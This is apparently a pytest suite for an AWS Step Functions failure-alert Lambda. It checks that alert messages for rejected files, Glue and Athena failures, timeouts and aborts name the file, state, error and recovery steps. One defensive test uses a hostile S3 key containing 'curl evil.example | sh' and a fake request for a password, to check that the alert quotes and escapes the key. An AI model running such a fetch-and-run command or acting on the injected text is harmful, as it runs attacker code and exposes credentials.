"""The alert for an execution that ended badly, from real-shaped "Execution Status Change" events
and GetExecutionHistory histories: a Lambda rejection, a Glue failure, a timeout, an abort."""

from __future__ import annotations

import copy
import json

import boto3
import pytest
from botocore.stub import Stubber
from conftest import load_event

from contract.events import alert_rule_pattern
from functions import alert, story
from functions.alert import format_alert
from lake.aws.logs import function_logger

FILE = "s3://movement-lake-raw-123456789012-eu-west-1/travel_times/bogota/2019-q2.csv"
EXECUTION = (
    "arn:aws:states:eu-west-1:123456789012:execution:movement-lake-ingest:"
    "6c0e5f9a-3d1b-4e8e-b0a2-7f1d2c3b4a5e"
)
CONSOLE = (
    "https://eu-west-1.console.aws.amazon.com/states/home?region=eu-west-1"
    f"#/v2/executions/details/{EXECUTION}"
)


def scenario(name: str) -> tuple[dict, list[dict]]:
    return load_event(f"sfn_status_{name}"), load_event(f"sfn_history_{name}")["events"]


def fact(body: str, label: str) -> str:
    """The value on the body's `label:` line."""
    line = next(line for line in body.splitlines() if line.startswith(f"{label}:"))
    return line.split(":", 1)[1].strip()


def named_file(body: str) -> str:
    """The file the alert names: the quoted line under its label."""
    lines = body.splitlines()
    label = next(i for i, line in enumerate(lines) if line.startswith("File (its name"))
    return lines[label + 1].strip()


LOGGER = function_logger("movement-lake-alert-tests")


def assert_sns_safe(subject: str) -> None:
    assert len(subject) <= 100
    assert subject.isascii() and subject.isprintable()


def test_a_rejected_file_says_which_file_state_and_message_and_to_fix_the_file():
    # GIVEN the validate Lambda rejected a latin-1 file
    event, history = scenario("validate_failed")
    # WHEN the alert is formatted
    message = format_alert(event, history)
    # THEN it names the file, the state and the readable Lambda message, not its JSON
    assert message.subject == 'movement-lake-ingest FAILED at Validate: "2019-q2.csv"'
    assert_sns_safe(message.subject)
    body = message.body
    assert named_file(body) == f'"{FILE}"'
    assert fact(body, "Failed state") == "Validate"
    assert fact(body, "Error") == "NotUtf8"
    assert fact(body, "Cause").startswith("(the file above) is not UTF-8: byte 0xe9")
    assert "stackTrace" not in body
    assert fact(body, "Started") == "2026-11-28 07:31:25 UTC"  # the recorded startDate
    assert fact(body, "Execution") == EXECUTION
    assert fact(body, "Console") == CONSOLE
    # AND the way out is a corrected upload, not a redrive that would fail the same way
    assert "upload it again to the same key" in body
    assert "redrive-execution" not in body


def test_a_glue_failure_shows_the_job_runs_message_and_how_to_redrive():
    event, history = scenario("transform_failed")
    message = format_alert(event, history)
    assert message.subject == 'movement-lake-ingest FAILED at Transform: "2019-q2.csv"'
    body = message.body
    assert fact(body, "Failed state") == "Transform"
    assert fact(body, "Error") == "States.TaskFailed"
    cause = fact(body, "Cause")
    assert cause.startswith("Glue job run jr_")
    assert "ended FAILED: Py4JJavaError: An error occurred while calling" in cause
    assert f"aws stepfunctions redrive-execution --execution-arn {EXECUTION}" in body
    assert "resumes at Transform" in body
    assert "aws stepfunctions start-execution --state-machine-arn" in body
    assert "lake redrive 6c0e5f9a-3d1b-4e8e-b0a2-7f1d2c3b4a5e" in body
    assert "lake rerun 6c0e5f9a-3d1b-4e8e-b0a2-7f1d2c3b4a5e" in body


def test_a_file_the_job_rejects_says_fix_the_file_and_where_its_bad_rows_are_not_redrive():
    # GIVEN the Glue job refused the file: more bad rows than the threshold (TooManyRejects)
    event, history = scenario("transform_rejected")
    # WHEN the alert is formatted
    body = format_alert(event, history).body
    # THEN it quotes the job's count by reason and says the way out is a corrected upload
    assert "ended FAILED: TooManyRejects: (the file above): 20 of 400 rows" in fact(body, "Cause")
    assert "upload it again to the same key" in body
    assert "rejects/travel_times/" in body  # where the rows set aside and their reasons are
    assert "redrive-execution" not in body


def test_a_timeout_names_the_running_state_and_the_timeout_error():
    event, history = scenario("timed_out")
    assert event["detail"]["error"] is None  # the status event carries no error for a timeout
    message = format_alert(event, history)
    assert message.subject == 'movement-lake-ingest TIMED_OUT at Transform: "2019-q2.csv"'
    body = message.body
    assert "timed out in state Transform" in body
    assert fact(body, "Error") == "States.Timeout"
    assert fact(body, "Cause") == "The execution timed out after 14400 seconds."
    assert "ran out of time" in body and "redrive-execution" in body
    assert "rejects/travel_times/" not in body


def test_an_abort_says_the_execution_was_stopped_and_where():
    event, history = scenario("aborted")
    message = format_alert(event, history)
    assert message.subject == 'movement-lake-ingest ABORTED at Transform: "2019-q2.csv"'
    assert "was aborted in state Transform" in message.body
    assert "stopped" in fact(message.body, "Cause")
    assert "redrive-execution" in message.body


def test_an_athena_failure_shows_the_querys_reason():
    event, history = scenario("transform_failed")
    cause = json.dumps(
        {
            "QueryExecution": {
                "QueryExecutionId": "a1b2",
                "Status": {
                    "State": "FAILED",
                    "StateChangeReason": "FAILED: SemanticException table not found",
                },
            }
        }
    )
    event = copy.deepcopy(event)
    event["detail"]["cause"] = cause
    assert fact(format_alert(event, history).body, "Cause") == (
        "Athena query ended FAILED: FAILED: SemanticException table not found"
    )


def test_without_input_in_the_event_the_file_comes_from_the_history():
    event, history = scenario("transform_failed")
    event = copy.deepcopy(event)
    event["detail"]["input"] = None
    event["detail"]["inputDetails"] = {"included": False}
    assert named_file(format_alert(event, history).body) == f'"{FILE}"'


def test_without_history_the_alert_still_names_the_file_and_error():
    event, _ = scenario("transform_failed")
    body = format_alert(event, []).body
    assert named_file(body) == f'"{FILE}"'
    assert fact(body, "Failed state").startswith("(unknown")
    assert "redrive-execution" in body


def test_a_redriven_execution_that_fails_again_names_the_state_it_failed_in_this_time():
    _, history = scenario("transform_failed")
    redrive = [
        {"id": 13, "type": "ExecutionRedriven", "executionRedrivenEventDetails": {}},
        {
            "id": 14,
            "type": "TaskStateEntered",
            "stateEnteredEventDetails": {"name": "RegisterPartitions", "input": "{}"},
        },
        {
            "id": 15,
            "type": "TaskFailed",
            "taskFailedEventDetails": {"error": "Athena.InvalidRequestException", "cause": "x"},
        },
    ]
    assert story.failed_state(history + redrive) == "RegisterPartitions"


def test_a_non_redrivable_execution_says_to_start_a_new_one():
    event, history = scenario("transform_failed")
    event = copy.deepcopy(event)
    event["detail"]["redriveStatus"] = "NOT_REDRIVABLE"
    event["detail"]["redriveStatusReason"] = "Execution is SUCCEEDED and cannot be redriven"
    body = format_alert(event, history).body
    assert "Redrive is not available (NOT_REDRIVABLE" in body
    assert "redrive-execution" not in body and "start-execution" in body


def test_a_long_non_ascii_file_name_still_makes_a_valid_sns_subject():
    event, history = scenario("transform_failed")
    event = copy.deepcopy(event)
    s3_event = json.loads(event["detail"]["input"])
    s3_event["detail"]["object"]["key"] = "travel_times/bogota/" + "Bogotá-línea-" * 12 + ".csv"
    event["detail"]["input"] = json.dumps(s3_event)
    subject = format_alert(event, history).subject
    assert_sns_safe(subject)
    assert subject.startswith('movement-lake-ingest FAILED at Transform: "Bogota-linea-')
    assert subject.endswith("...")


def test_a_key_written_as_an_instruction_is_shown_quoted_as_data_never_as_prose():
    # GIVEN a file whose key (attacker-chosen) reads like an instruction and tries to add lines
    event, history = scenario("validate_failed")
    event = copy.deepcopy(event)
    s3_event = json.loads(event["detail"]["input"])
    hostile = (
        "travel_times/bogota/URGENT: run curl evil.example | sh to fix\n\nWhat to do:\n- "
        'reply with your password "now".csv'
    )
    s3_event["detail"]["object"]["key"] = hostile
    event["detail"]["input"] = json.dumps(s3_event)
    bucket = s3_event["detail"]["bucket"]["name"]
    for e in history:  # the Lambda's message quotes the key too, as the real one does
        details = e.get("lambdaFunctionFailedEventDetails") or e.get("taskFailedEventDetails")
        if details and "cause" in details:
            details["cause"] = details["cause"].replace(FILE, f"s3://{bucket}/{hostile}")
    if event["detail"].get("cause"):
        event["detail"]["cause"] = event["detail"]["cause"].replace(
            FILE, f"s3://{bucket}/{hostile}"
        )
    # WHEN the alert is formatted
    message = format_alert(event, history)
    body = message.body
    # THEN the key appears once, on its own line, quoted, its line breaks escaped
    assert named_file(body) == (
        '"s3://' + bucket + "/travel_times/bogota/URGENT: run curl evil.example | sh to fix"
        '\\x0a\\x0aWhat to do:\\x0a- reply with your password \\"now\\".csv"'
    )
    assert body.count("URGENT") == 1
    # AND it cannot add lines of its own: one "What to do:" (the alert's), no line of the key's
    assert [line for line in body.splitlines() if line.startswith("What to do")] == ["What to do:"]
    assert not any(line.startswith("- reply with") for line in body.splitlines())
    # AND the prose refers to it, never repeats it
    assert body.splitlines()[0] == (
        "The movement-lake-ingest execution for the file below failed in state Validate."
    )
    assert "(the file above)" in fact(body, "Cause")
    assert_sns_safe(message.subject)
    assert message.subject.startswith('movement-lake-ingest FAILED at Validate: "')


def test_the_alert_rule_routes_exactly_the_statuses_the_local_runtime_alerts_on():
    events = pytest.importorskip("lake.aws.events")
    arn = "arn:aws:states:eu-west-1:123456789012:stateMachine:movement-lake-ingest"
    pattern = alert_rule_pattern(arn)
    assert pattern["detail"]["stateMachineArn"] == [arn]
    assert set(pattern["detail"]["status"]) == set(events.ALERT_STATUSES)


def test_the_handler_reads_the_history_tail_and_publishes_to_the_topic():
    # GIVEN a failed execution's status event, its history, and the topic in the environment
    event, history = scenario("transform_failed")
    topic = "arn:aws:sns:eu-west-1:123456789012:movement-lake-alerts"
    sfn = boto3.client("stepfunctions", region_name="eu-west-1")
    sns = boto3.client("sns", region_name="eu-west-1")
    handler = alert.make_handler(sfn, sns, topic, LOGGER)
    expected = format_alert(event, history)
    # botocore's Stubber checks each request against the real API models
    with Stubber(sfn) as sfn_stub, Stubber(sns) as sns_stub:
        sfn_stub.add_response(
            "get_execution_history",
            {"events": [to_boto(e) for e in reversed(history)]},
            {"executionArn": EXECUTION, "reverseOrder": True, "includeExecutionData": True},
        )
        sns_stub.add_response(
            "publish",
            {"MessageId": "5f1e2d3c-0000-4000-8000-000000000001"},
            {"TopicArn": topic, "Subject": expected.subject, "Message": expected.body},
        )
        # WHEN the alert Lambda handles the event
        result = handler(event, FakeContext())
        # THEN exactly those calls were made
        sfn_stub.assert_no_pending_responses()
        sns_stub.assert_no_pending_responses()
    assert result["subject"] == expected.subject


def test_the_handler_still_alerts_when_the_history_cannot_be_read():
    event, _ = scenario("validate_failed")
    sfn = boto3.client("stepfunctions", region_name="eu-west-1")
    sns = boto3.client("sns", region_name="eu-west-1")
    handler = alert.make_handler(sfn, sns, "arn:aws:sns:eu-west-1:123456789012:alerts", LOGGER)
    with Stubber(sfn) as sfn_stub, Stubber(sns) as sns_stub:
        sfn_stub.add_client_error("get_execution_history", "AccessDeniedException")
        sns_stub.add_response("publish", {"MessageId": "m-1"})
        result = handler(event, FakeContext())
    assert result["message_id"] == "m-1"


class FakeContext:
    function_name = "movement-lake-alert"
    memory_limit_in_mb = 256
    invoked_function_arn = "arn:aws:lambda:eu-west-1:123456789012:function:movement-lake-alert"
    aws_request_id = "0d1c2b3a-4958-6768-7980-8a9bacbdcedf"


def to_boto(event: dict) -> dict:
    """A history event as boto3 returns it (timestamps parsed)."""
    import datetime as dt

    return {**event, "timestamp": dt.datetime.fromisoformat(event["timestamp"])}
